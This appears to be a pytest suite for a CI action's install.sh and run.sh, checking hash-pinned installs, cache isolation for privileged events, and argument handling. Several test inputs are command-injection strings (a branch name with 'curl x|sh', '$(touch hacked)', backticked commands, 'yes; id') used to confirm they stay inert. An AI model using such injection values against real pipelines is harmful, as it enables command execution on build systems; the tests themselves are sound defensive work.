"""The two scripts behind every action: `install.sh` makes the environment, `run.sh` turns inputs into a command line."""

import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
needs_uv = pytest.mark.skipif(shutil.which("uv") is None, reason="without uv it comes from a registry, which a test does not ask")


def script(name: str, *arguments: str | Path, **env: str) -> "subprocess.CompletedProcess[str]":
    kept = {key: value for key, value in os.environ.items() if not key.startswith(("GITHUB_", "RUNNER_", "ASSAY_", "PYTHON"))}
    command = ["bash", str(ROOT / "actions" / name), *map(str, arguments)]
    return subprocess.run(command, env=kept | env, capture_output=True, text=True, check=False)


def lock(folder: Path, version: str) -> Path:
    """A lock of one package, which lies beside it."""
    wheel = folder / f"tiny-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("tiny.py", f"VERSION = {version!r}\n")
        archive.writestr(f"tiny-{version}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: tiny\nVersion: {version}\n")
        archive.writestr(f"tiny-{version}.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"tiny-{version}.dist-info/RECORD", "")
    found = folder / "tiny.lock"
    found.write_text(f"tiny @ {wheel.as_uri()} --hash=sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}\n")
    return found


def tiny(home: Path) -> str:
    code = "import tiny; print(tiny.VERSION)"
    return subprocess.run([home / "bin/python", "-c", code], capture_output=True, text=True, check=True).stdout.strip()


@needs_uv
def test_an_environment_holds_its_lock_and_is_left_alone_while_it_does(tmp_path: Path) -> None:
    home = tmp_path / "a home"
    first = script("install.sh", home, lock(tmp_path, "1.0"))
    assert first.returncode == 0, first.stderr
    assert tiny(home) == "1.0"
    (home / "mark").touch()
    assert script("install.sh", home, tmp_path / "tiny.lock").stdout == ""
    assert (home / "mark").exists()
    assert script("install.sh", home, lock(tmp_path, "2.0")).returncode == 0
    assert tiny(home) == "2.0"


@needs_uv
def test_an_environment_that_was_interrupted_is_made_anew(tmp_path: Path) -> None:
    home = tmp_path / "home"
    script("install.sh", home, lock(tmp_path, "1.0"))
    (home / ".made-from").unlink()
    next(home.glob("lib/python*/site-packages/tiny.py")).unlink()
    script("install.sh", home, tmp_path / "tiny.lock")
    assert tiny(home) == "1.0"


@needs_uv
def test_a_package_that_is_not_the_pinned_one_is_refused(tmp_path: Path) -> None:
    wrong = lock(tmp_path, "1.0")
    wrong.write_text(wrong.read_text()[:-5] + "0000\n")
    done = script("install.sh", tmp_path / "home", wrong)
    assert done.returncode != 0
    assert not (tmp_path / "home/.made-from").exists()


def test_an_old_python_is_refused_in_one_line(tmp_path: Path) -> None:
    old = tmp_path / "python3"
    old.write_text("#!/bin/sh\nexit 1\n")
    old.chmod(0o755)
    done = script("install.sh", tmp_path / "home", "any.lock", PYTHON=str(old))
    assert done.returncode == 2
    assert done.stderr == f"install.sh: {old} is not Python 3.11 or newer; set PYTHON to one\n"


def where(tmp_path: Path, event: str) -> dict[str, str]:
    done = script("install.sh", "--where", RUNNER_TEMP=str(tmp_path), GITHUB_EVENT_NAME=event)
    assert done.returncode == 0, done.stderr
    return dict(line.split("=", 1) for line in done.stdout.splitlines())


def test_the_key_of_the_cache_names_system_python_and_lock(tmp_path: Path) -> None:
    found = where(tmp_path, "pull_request")
    python = subprocess.run(
        ["python3", "-c", "import platform; print(platform.python_version())"], capture_output=True, text=True
    )
    digest = hashlib.sha256((ROOT / "requirements-action.lock").read_bytes()).hexdigest()
    assert found["home"] == str(tmp_path / "assay")
    assert f"-py{python.stdout.strip()}-{digest[:20]}" in found["key"]
    assert found["present"] == "false"


@pytest.mark.parametrize(
    ("event", "level", "write"),
    [
        ("pull_request", "change", "true"),
        ("merge_group", "change", "true"),
        ("push", "branch", "true"),
        ("schedule", "branch", "true"),
        ("workflow_dispatch", "branch", "false"),
        ("workflow_run", "branch", "false"),
        ("pull_request_target", "branch", "false"),
        ("issue_comment", "branch", "false"),
        ("something_new", "branch", "false"),
    ],
)
def test_ga_10_a_privileged_job_shares_no_key_with_a_change_and_writes_no_cache(
    tmp_path: Path, event: str, level: str, write: str
) -> None:
    found = where(tmp_path, event)
    assert found["key"].startswith(f"assay-{level}-")
    assert found["write"] == write


def test_uv_is_pinned_for_a_machine_that_has_none() -> None:
    text = (ROOT / "requirements-action.lock").read_text("utf-8")
    block = text[text.index("\nuv==") :].split("\nvine==")[0]
    assert "--hash=sha256:" in block


# --- run.sh ---


def run(tmp_path: Path, verb: str, **env: str) -> "subprocess.CompletedProcess[str]":
    """Run a verb with an interpreter that only prints what it is told."""
    python = tmp_path / "bin/python"
    python.parent.mkdir(exist_ok=True)
    python.write_text(f'#!{sys.executable}\nimport json, sys\nprint(json.dumps(sys.argv[3:]), end="")\n')
    python.chmod(0o755)
    return script("run.sh", verb, ASSAY_HOME=str(tmp_path), **env)


def test_inputs_become_options(tmp_path: Path) -> None:
    done = run(tmp_path, "check", ASSAY_BASE="origin/main", ASSAY_FOLDER=".", ASSAY_TRAIN="false", ASSAY_WHOLE="true")
    assert done.stdout == '["check", "--base=origin/main", "--repository=.", "--no-train", "--whole"]'


def test_what_is_left_out_is_left_to_the_verb(tmp_path: Path) -> None:
    assert run(tmp_path, "data", ASSAY_BASE="", ASSAY_REMOTE="true", ASSAY_TRAIN="").stdout == '["data"]'


def test_a_pull_request_is_compared_with_what_it_wants_to_join(tmp_path: Path) -> None:
    assert run(tmp_path, "drift", GITHUB_BASE_REF="main").stdout == '["drift", "--base=origin/main"]'


def test_the_first_push_of_a_branch_is_compared_with_itself(tmp_path: Path) -> None:
    assert run(tmp_path, "check", ASSAY_BASE="0" * 40).stdout == '["check", "--base=HEAD"]'


@pytest.mark.parametrize("branch", ['a";curl x|sh;"', "$(touch hacked)", "`touch hacked`", "a b", "--help", "a\nb", "%0A"])
def test_ga_06_the_name_of_a_branch_is_an_argument_and_nothing_else(tmp_path: Path, branch: str) -> None:

    done = run(tmp_path, "check", GITHUB_BASE_REF=branch)
    assert json.loads(done.stdout) == ["check", f"--base=origin/{branch}"]


def test_an_input_that_is_neither_true_nor_false_is_refused(tmp_path: Path) -> None:
    done = run(tmp_path, "check", ASSAY_TRAIN="yes; id")
    assert done.returncode == 2
    assert done.stderr == "assay: an input is `yes; id`. Write true or false\n"


def test_a_request_is_one_argument_whatever_is_in_it(tmp_path: Path) -> None:
    request = '{"arguments": "{\\"set\\": [\\"lr=$(id)\\"]}", "x": "`id`; a b\n--out=/etc"}'
    assert json.loads(run(tmp_path, "check", ASSAY_REQUEST=request).stdout) == ["check", f"--request={request}"]
    done = run(tmp_path, "commit", ASSAY_REQUEST=request, ASSAY_RUN="77", ASSAY_ARTIFACT="assay-commit", GITHUB_BASE_REF="x")
    assert json.loads(done.stdout) == ["commit", f"--request={request}", "--run=77", "--artifact=assay-commit"]


def test_a_report_names_the_run_that_it_follows(tmp_path: Path) -> None:
    done = run(tmp_path, "publish", ASSAY_RUN="77", ASSAY_ARTIFACT="assay-facts", GITHUB_BASE_REF="x")
    assert done.stdout == '["publish", "--run=77", "--artifact=assay-facts"]'


def test_a_look_at_production_is_written_elsewhere_only_where_that_is_asked_for(tmp_path: Path) -> None:
    assert json.loads(run(tmp_path, "monitor", ASSAY_PROMETHEUS="", ASSAY_MLFLOW="false").stdout) == ["monitor"]
    done = run(tmp_path, "monitor", ASSAY_OUT="a.json", ASSAY_PROMETHEUS="a.prom", ASSAY_MLFLOW="true")
    assert json.loads(done.stdout) == ["monitor", "--out=a.json", "--prometheus=a.prom", "--mlflow"]
